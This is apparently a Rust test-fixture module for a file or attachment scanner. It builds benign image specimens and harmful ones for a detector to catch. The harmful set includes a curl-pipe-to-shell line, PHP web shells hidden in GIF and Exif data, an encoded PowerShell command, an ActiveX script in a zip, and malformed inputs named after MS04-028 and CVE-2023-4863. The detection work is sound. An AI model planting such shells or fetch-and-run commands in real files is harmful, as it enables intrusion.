//! Bitmaps: what phones, cameras, mail clients, gateways and tools make of them, and what attackers do.

use image::ImageFormat;

use super::Specimen;
use super::carrier::{
    bmp, chunk, encoded_program, film, gif, ico, jpeg, jpeg_with, picture, png, png_with, program, samsung, segment,
    webp, zip,
};
use super::scene::{exif, exif_thumbnail, icc, large_bmp, large_gif, photoshop, riff, tables_that_overflow, xmp};

const JPEG: &str = "image/jpeg";
const PNG: &str = "image/png";

/// Innocent, every one.
pub(super) fn innocent() -> Vec<Specimen> {
    let is = Specimen::innocent;
    let png_half = png().len() / 2;
    vec![
        is(&["IMG-0003", "IMG-0005"], "a plain JPEG", "image001.jpg", JPEG, jpeg()),
        is(&["IMG-0003", "IMG-0008"], "a plain PNG, as Outlook names it", "image001.png", PNG, png()),
        is(&["IMG-0003"], "a plain GIF", "logo.gif", "image/gif", gif()),
        is(&["IMG-0003", "IMG-0007"], "a plain WebP", "photo.webp", "image/webp", webp()),
        is(&["IMG-0003", "IMG-0008"], "a plain BMP", "scan.bmp", "image/bmp", bmp()),
        is(&["IMG-0003"], "a plain ICO", "favicon.ico", "image/x-icon", ico()),
        is(&["IMG-0014"], "a cursor", "arrow.cur", "image/x-icon", cursor()),
        is(&["IMG-0009"], "a spacer of one pixel", "spacer.gif", "image/gif", picture(ImageFormat::Gif, 1, 1)),
        is(&["IMG-0014"], "a JPEG named PNG", "image001.png", PNG, jpeg()),
        is(&["IMG-0014"], "a PNG named JPEG", "photo.jpg", "image/jpg", png()),
        is(&["IMG-0014"], "a GIF named PNG", "image002.png", PNG, gif()),
        is(&["IMG-0014", "IMG-0007"], "a WebP saved as JPEG", "download.jpg", JPEG, webp()),
        is(
            &["IMG-0014", "TYP-0001"],
            "a JPEG as application/octet-stream",
            "IMG_0001.JPG",
            "application/octet-stream",
            jpeg(),
        ),
        is(&["IMG-0014", "TYP-0001"], "a JPEG as image/pjpeg named .jfif", "picture.jfif", "image/pjpeg", jpeg()),
        is(
            &["IMG-0001", "IMG-0004"],
            "a second JPEG behind, announced (Ultra HDR, MPF)",
            "PXL_20260801.jpg",
            JPEG,
            announced(),
        ),
        is(
            &["IMG-0002", "IMG-0004"],
            "a second JPEG behind, not announced",
            "IMG_2.jpg",
            JPEG,
            [jpeg(), jpeg()].concat(),
        ),
        is(&["IMG-0001"], "a gain map and Samsung's trailer", "20260801.jpg", JPEG, [announced(), samsung()].concat()),
        is(&["IMG-0001", "IMG-0004"], "Samsung's trailer", "20240826_120000.jpg", JPEG, [jpeg(), samsung()].concat()),
        is(&["IMG-0001", "IMG-0004"], "a motion photo", "MVIMG_1.jpg", JPEG, [jpeg(), film()].concat()),
        is(
            &["IMG-0001", "IMG-0002"],
            "a motion photo and Samsung's trailer",
            "MV_2.jpg",
            JPEG,
            [jpeg(), film(), samsung()].concat(),
        ),
        is(
            &["IMG-0001", "IMG-0004"],
            "zeros to the end of a block",
            "scan.jpg",
            JPEG,
            [jpeg(), vec![0; 3000]].concat(),
        ),
        is(&["IMG-0002"], "FF to the end of a block", "dsc.jpg", JPEG, [jpeg(), vec![0xff; 700]].concat()),
        is(
            &["IMG-0002", "IMG-0004"],
            "padding, then a preview",
            "DSC00001.JPG",
            JPEG,
            [jpeg(), vec![0; 30_000], jpeg()].concat(),
        ),
        is(&["IMG-0004"], "a line end that an MTA added", "photo.jpg", JPEG, [jpeg(), b"\r\n".to_vec()].concat()),
        is(&["IMG-0004"], "a line end behind a PNG", "a.png", PNG, [png(), b"\n".to_vec()].concat()),
        is(&["IMG-0004"], "a line end behind a GIF", "a.gif", "image/gif", [gif(), b"\r\n".to_vec()].concat()),
        is(
            &["IMG-0002"],
            "what cropping left of a PNG (aCropalypse)",
            "Screenshot.png",
            PNG,
            [png(), png()[png_half..].to_vec()].concat(),
        ),
        is(&["IMG-0002"], "what cropping left of a JPEG", "crop.jpg", JPEG, [jpeg(), jpeg()[400..].to_vec()].concat()),
        is(
            &["IMG-0001", "IMG-0004"],
            "an unknown short trailer of a camera",
            "cam.jpg",
            JPEG,
            [jpeg(), b"NIKON APP and some numbers 0123456789".to_vec()].concat(),
        ),
        is(
            &["IMG-0002"],
            "an unknown long trailer of a camera",
            "cam2.jpg",
            JPEG,
            [jpeg(), (0..9000_u32).map(|n| (n * 7 % 251) as u8).collect()].concat(),
        ),
        is(
            &["IMG-0001"],
            "a trailer that begins with the letters MZ",
            "mz.jpg",
            JPEG,
            [jpeg(), b"MZ0001 camera block\x01\x02\x03".repeat(9)].concat(),
        ),
        is(
            &["IMG-0002"],
            "a trailer with the letters PK in it",
            "pk.jpg",
            JPEG,
            [jpeg(), b"\x01\x02PK\x03\x04 not an archive".repeat(9)].concat(),
        ),
        is(&["IMG-0005"], "Apple's iDOT chunk", "IMG_0002.png", PNG, png_with(&[chunk(b"iDOT", &[0; 28])])),
        is(&["IMG-0005"], "ImageMagick's vpAg chunk", "chart.png", PNG, png_with(&[chunk(b"vpAg", &[0; 9])])),
        is(
            &["IMG-0005"],
            "a chunk of Fireworks",
            "button.png",
            PNG,
            png_with(&[chunk(b"mkBF", &[1; 60]), chunk(b"mkTS", &[2; 200])]),
        ),
        is(&["IMG-0007"], "a PNG with a wrong checksum", "old.png", PNG, wrong_checksum()),
        is(&["IMG-0009"], "a PNG cut off by a gateway", "cut.png", PNG, png()[..png().len() - 40].to_vec()),
        is(&["IMG-0006"], "a JPEG cut off by a gateway", "cut.jpg", JPEG, jpeg()[..jpeg().len() - 40].to_vec()),
        is(&["IMG-0009"], "a GIF cut off by a gateway", "cut.gif", "image/gif", gif()[..gif().len() - 40].to_vec()),
        is(
            &["IMG-0007"],
            "a WebP cut off by a gateway",
            "cut.webp",
            "image/webp",
            webp()[..webp().len() - 40].to_vec(),
        ),
        is(&["IMG-0014"], "an empty picture part", "~WRD000.jpg", JPEG, Vec::new()),
        is(&["IMG-0005"], "Exif before JFIF", "order.jpg", JPEG, jpeg_with(&[segment(0xe1, &exif(&[]))])),
        is(
            &["IMG-0006"],
            "two JFIF headers",
            "double.jpg",
            JPEG,
            jpeg_with(&[segment(0xe0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")]),
        ),
        is(&["IMG-0002"], "a thumbnail in Exif", "thumb.jpg", JPEG, jpeg_with(&[segment(0xe1, &exif_thumbnail())])),
        is(
            &["IMG-0010"],
            "Photoshop's resources with a caption that speaks of scripts",
            "ps.jpg",
            JPEG,
            jpeg_with(&[segment(0xed, &photoshop("The <b>script</b> of cmd.exe and powershell, a talk"))]),
        ),
        is(
            &["IMG-0010", "IMG-0011"],
            "an edit history in XMP",
            "edited.jpg",
            JPEG,
            jpeg_with(&[segment(0xe1, &xmp("photoshop:History=\"open, crop, <?xpacket\""))]),
        ),
        is(
            &["IMG-0010", "IMG-0011"],
            "a thumbnail in base64 in XMP",
            "xmpthumb.jpg",
            JPEG,
            jpeg_with(&[segment(0xe1, &xmp(&format!("xmpGImg:image=\"{}\"", base64_of(&jpeg()))))]),
        ),
        is(&["IMG-0013"], "a colour profile", "srgb.jpg", JPEG, jpeg_with(&[segment(0xe2, &icc(132 + 24, 100))])),
        is(&["IMG-0013"], "half a colour profile", "halficc.jpg", JPEG, jpeg_with(&[segment(0xe2, &icc(5000, 3000))])),
        is(
            &["IMG-0005"],
            "CMYK with Adobe's marker",
            "print.jpg",
            JPEG,
            jpeg_with(&[segment(0xee, b"Adobe\0\x64\0\0\0\0\x02")]),
        ),
        is(
            &["IMG-0006", "IMG-0011"],
            "a comment",
            "comment.jpg",
            JPEG,
            jpeg_with(&[segment(0xfe, b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 90\n")]),
        ),
        is(
            &["IMG-0005", "IMG-0006"],
            "fill bytes between segments",
            "fill.jpg",
            JPEG,
            jpeg_with(&[vec![0xff; 3], segment(0xfe, b"x")]),
        ),
        is(
            &["IMG-0006"],
            "stray bytes between segments",
            "stray.jpg",
            JPEG,
            jpeg_with(&[segment(0xfe, b"x"), vec![0, 0, 0]]),
        ),
        is(
            &["IMG-0010"],
            "a text that begins TVqQ and is nothing",
            "tvqq.png",
            PNG,
            png_with(&[chunk(b"tEXt", b"Comment\0TVqQ was the channel's name")]),
        ),
        is(
            &["IMG-0010", "IMG-0011"],
            "a note on PHP in a text",
            "php.png",
            PNG,
            png_with(&[chunk(b"tEXt", b"Comment\0The <?php tag, explained")]),
        ),
        is(&["IMG-0005"], "C2PA provenance", "c2pa.png", PNG, png_with(&[chunk(b"caBX", &[3; 500])])),
        is(&["IMG-0001"], "bits of another size than the file says (BMP)", "size.bmp", "image/bmp", wrong_size()),
        is(
            &["IMG-0004"],
            "two bytes behind a BMP, as Photoshop leaves",
            "ps.bmp",
            "image/bmp",
            [bmp(), vec![0, 0]].concat(),
        ),
        is(&["IMG-0009"], "a large blank scan", "a0.bmp", "image/bmp", large_bmp(3000, 3000)),
        is(&["IMG-0007"], "a WebP with a byte of padding", "odd.webp", "image/webp", [webp(), vec![0]].concat()),
        is(&["IMG-0009"], "a picture of 20,000 x 20,000", "plot.png", PNG, sized_png(20_000, 20_000)),
        is(
            &["IMG-0012", "IMG-0010"],
            "markup in a comment",
            "markup.jpg",
            JPEG,
            jpeg_with(&[segment(0xfe, b"<p>made by <script>a tool</script></p>")]),
        ),
        is(&["IMG-0001"], "zeros between the blocks of a GIF", "gap.gif", "image/gif", gap()),
        is(&["IMG-0006"], "an empty comment", "empty.jpg", JPEG, jpeg_with(&[segment(0xfe, b"")])),
        is(&["IMG-0007"], "a WebP with damaged colours", "damaged.webp", "image/webp", damaged_webp()),
        is(&["IMG-0007"], "a WebP of one pixel", "dot.webp", "image/webp", picture(ImageFormat::WebP, 1, 1)),
        is(&["IMG-0008"], "a photo of twelve million pixels", "photo12.png", PNG, sized_png(4000, 3000)),
        is(&["IMG-0008"], "a long banner", "banner.png", PNG, sized_png(30_000, 600)),
        is(&["IMG-0008"], "a thin line", "line.png", PNG, sized_png(65_000, 1)),
        is(&["IMG-0009"], "a plan of 30,000 x 30,000", "plan.png", PNG, sized_png(30_000, 30_000)),
        is(
            &["IMG-0011"],
            "a caption with arrows",
            "arrow.png",
            PNG,
            png_with(&[chunk(b"tEXt", b"Title\0a <-> b <= c")]),
        ),
        is(
            &["IMG-0012"],
            "a picture that was saved as a page",
            "logo.html",
            "text/html",
            png_with(&[chunk(b"tEXt", b"Title\0the logo")]),
        ),
        is(&["IMG-0012"], "a picture of a page", "page.htm.png", PNG, png()),
        is(
            &["IMG-0012"],
            "a note that begins as a GIF does",
            "gif.html",
            "text/html",
            b"GIF89a<p>is how a GIF begins.</p>".to_vec(),
        ),
        is(
            &["IMG-0012"],
            "markup in a text of a PNG",
            "markup.png",
            PNG,
            png_with(&[chunk(b"tEXt", b"Comment\0<script>of a play</script>")]),
        ),
        is(
            &["IMG-0013"],
            "a colour profile with an empty tag",
            "icc-empty.jpg",
            JPEG,
            jpeg_with(&[segment(0xe2, &icc(156, 0))]),
        ),
        is(
            &["IMG-0013"],
            "a colour profile whose tags share their bytes",
            "icc-shared.jpg",
            JPEG,
            jpeg_with(&[segment(0xe2, &icc(156, 100))]),
        ),
        is(
            &["IMG-0013"],
            "a colour profile in two segments",
            "icc-two.jpg",
            JPEG,
            jpeg_with(&[segment(0xe2, &icc(156, 40)), segment(0xe2, &icc(196, 60))]),
        ),
    ]
}

/// Harmful, every one.
pub(super) fn harmful() -> Vec<Specimen> {
    let is = Specimen::harmful;
    let script = zip("invoice.js", b"new ActiveXObject('WScript.Shell').Run('calc')");
    let tail_program = "picture-tail-program";
    let tail_archive = "picture-tail-archive";
    vec![
        is("a program behind a JPEG", "logo.jpg", JPEG, [jpeg(), program()].concat(), tail_program),
        is(
            "a program behind a JPEG that still ends as one",
            "photo.jpg",
            JPEG,
            [jpeg(), program(), vec![0xff, 0xd9]].concat(),
            tail_program,
        ),
        is("a program behind a PNG", "logo.png", PNG, [png(), program()].concat(), tail_program),
        is("a program behind a GIF", "logo.gif", "image/gif", [gif(), program()].concat(), tail_program),
        is("a program behind a WebP", "logo.webp", "image/webp", [webp(), program()].concat(), tail_program),
        is("a program behind a BMP whose header claims it", "logo.bmp", "image/bmp", claimed(), tail_program),
        is("a program behind an ICO", "logo.ico", "image/x-icon", [ico(), program()].concat(), tail_program),
        is("a program behind padding", "pad.jpg", JPEG, [jpeg(), vec![0; 512], program()].concat(), tail_program),
        is(
            "a program before a fake Samsung trailer",
            "sef.jpg",
            JPEG,
            [jpeg(), program(), samsung()].concat(),
            tail_program,
        ),
        is("a program behind a real Samsung film", "mv.jpg", JPEG, [jpeg(), film(), program()].concat(), tail_program),
        is("a program behind the second JPEG", "hdr.jpg", JPEG, [announced(), program()].concat(), tail_program),
        is(
            "a shell script behind a PNG",
            "run.png",
            PNG,
            [png(), b"#!/bin/sh\ncurl example.invalid | sh\n".to_vec()].concat(),
            tail_program,
        ),
        is(
            "a PHP script behind a GIF",
            "shell.gif",
            "image/gif",
            [gif(), b"<?php system($_GET['c']); ?>".to_vec()].concat(),
            tail_program,
        ),
        is(
            "a Windows shortcut behind a JPEG",
            "lnk.jpg",
            JPEG,
            [jpeg(), b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec()].concat(),
            tail_program,
        ),
        is("a zip behind a JPEG (rarjpeg)", "cat.jpg", JPEG, [jpeg(), script.clone()].concat(), tail_archive),
        is("a zip behind a PNG", "cat.png", PNG, [png(), script.clone()].concat(), tail_archive),
        is("a zip behind a motion photo", "mvzip.jpg", JPEG, [jpeg(), film(), script.clone()].concat(), tail_archive),
        is(
            "a zip behind bytes that begin like a film",
            "fake.jpg",
            JPEG,
            [jpeg(), b"\0\0\0\x10ftypisom\0\0\0\0".to_vec(), script.clone()].concat(),
            tail_archive,
        ),
        is("a zip behind noise", "noise.jpg", JPEG, [jpeg(), vec![9; 333], script.clone()].concat(), tail_archive),
        is("a zip behind the second JPEG", "mpozip.jpg", JPEG, [announced(), script].concat(), tail_archive),
        is(
            "a rar behind a JPEG",
            "cat2.jpg",
            JPEG,
            [jpeg(), b"Rar!\x1a\x07\0rest of an archive".to_vec()].concat(),
            tail_archive,
        ),
        is(
            "a PDF behind a PNG",
            "doc.png",
            PNG,
            [png(), b"%PDF-1.7\n1 0 obj\nendobj\n".to_vec()].concat(),
            tail_archive,
        ),
        is(
            "a program in base64 behind a JPEG",
            "b64.jpg",
            JPEG,
            [jpeg(), b"<<BASE64_START>>".to_vec(), encoded_program(), b"<<BASE64_END>>".to_vec()].concat(),
            "picture-payload",
        ),
        is(
            "a program in base64 in a comment",
            "com.jpg",
            JPEG,
            jpeg_with(&[segment(0xfe, &encoded_program())]),
            "picture-payload",
        ),
        is(
            "a program in base64 in a PNG's text",
            "text.png",
            PNG,
            png_with(&[chunk(b"tEXt", &[b"Comment\0".to_vec(), encoded_program()].concat())]),
            "picture-payload",
        ),
        is(
            "a program in base64 in a compressed text",
            "ztxt.png",
            PNG,
            png_with(&[chunk(b"zTXt", &[b"Comment\0\0".to_vec(), deflated(&encoded_program())].concat())]),
            "picture-payload",
        ),
        is(
            "a PHP shell in Exif",
            "exif.jpg",
            JPEG,
            jpeg_with(&[segment(0xe1, &exif(b"<?php eval(base64_decode($_POST['x'])); ?>"))]),
            "picture-payload",
        ),
        is(
            "a PowerShell command in Exif",
            "ps.jpg",
            JPEG,
            jpeg_with(&[segment(0xe1, &exif(b"powershell -enc SQBFAFgA"))]),
            "picture-payload",
        ),
        is(
            "a page with a script that begins like a GIF",
            "invoice.html",
            "text/html",
            b"GIF89a<script>location='https://example.invalid/'</script>".to_vec(),
            "picture-as-page",
        ),
        is(
            "a comment of length 0 (MS04-028)",
            "gdi.jpg",
            JPEG,
            [b"\xff\xd8\xff\xfe\0\0AAAAAAAA".to_vec(), jpeg()[2..].to_vec()].concat(),
            "picture-ms04-028",
        ),
        is(
            "an application segment of length 1 (MS04-028)",
            "gdi2.jpg",
            JPEG,
            [b"\xff\xd8\xff\xe1\0\x01AAAAAAAA".to_vec(), jpeg()[2..].to_vec()].concat(),
            "picture-ms04-028",
        ),
        is(
            "Huffman tables that overflow (CVE-2023-4863)",
            "vp8l.webp",
            "image/webp",
            riff(b"VP8L", &tables_that_overflow()),
            "picture-cve-2023-4863",
        ),
        is(
            "a colour profile whose tag overflows",
            "icc.jpg",
            JPEG,
            jpeg_with(&[segment(0xe2, &icc(0xffff_fff0, 0x20))]),
            "picture-profile",
        ),
        is("a picture of 60,000 x 60,000", "bomb.png", PNG, sized_png(60_000, 60_000), "picture-huge"),
        is("a GIF of many large frames", "bomb.gif", "image/gif", large_gif(), "picture-huge"),
        is(
            "a PDF named as a GIF (FORCEDENTRY)",
            "image.gif",
            "image/gif",
            b"%PDF-1.3\n1 0 obj<</Filter/JBIG2Decode>>\nendobj\n".to_vec(),
            "disguised-document",
        ),
        is("a zip named as a JPEG", "photo.jpg", JPEG, zip("a.txt", b"hello"), "disguised-document"),
        is("a program named as a JPEG", "photo.jpg", JPEG, program(), "disguised-executable"),
    ]
}

fn announced() -> Vec<u8> {
    [jpeg_with(&[segment(0xe2, b"MPF\0MM\0*\0\0\0\x08\0\0")]), jpeg()].concat()
}

fn wrong_checksum() -> Vec<u8> {
    let mut bytes = png_with(&[chunk(b"tIME", &[7, 234, 8, 1, 12, 0, 0])]);
    bytes[33 + 8 + 7] ^= 0xff;
    bytes
}

/// The file claims another size than it has; readers do not care.
fn wrong_size() -> Vec<u8> {
    let mut bytes = bmp();
    bytes[2..6].copy_from_slice(&[0; 4]);
    bytes
}

/// A program behind the pixels, and a header that counts it in.
fn claimed() -> Vec<u8> {
    let mut bytes = [bmp(), program()].concat();
    let size = u32::try_from(bytes.len()).expect("short").to_le_bytes();
    bytes[2..6].copy_from_slice(&size);
    bytes
}

fn gap() -> Vec<u8> {
    let mut bytes = gif();
    let trailer = bytes.pop();
    bytes.extend([0, 0]);
    bytes.extend(trailer);
    bytes
}

fn cursor() -> Vec<u8> {
    let mut bytes = ico();
    bytes[2] = 2;
    bytes
}

/// A small picture that declares another size.
fn sized_png(width: u32, height: u32) -> Vec<u8> {
    let plain = png();
    let header = [&width.to_be_bytes()[..], &height.to_be_bytes(), &plain[24..29]].concat();
    [&plain[..8], &chunk(b"IHDR", &header), &plain[33..]].concat()
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).expect("memory takes bytes");
    encoder.finish().expect("memory takes bytes")
}

fn base64_of(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Bytes in the middle of its pixels are wrong.
fn damaged_webp() -> Vec<u8> {
    let mut bytes = webp();
    let middle = bytes.len() / 2;
    bytes[middle..middle + 8].fill(0x55);
    bytes
}
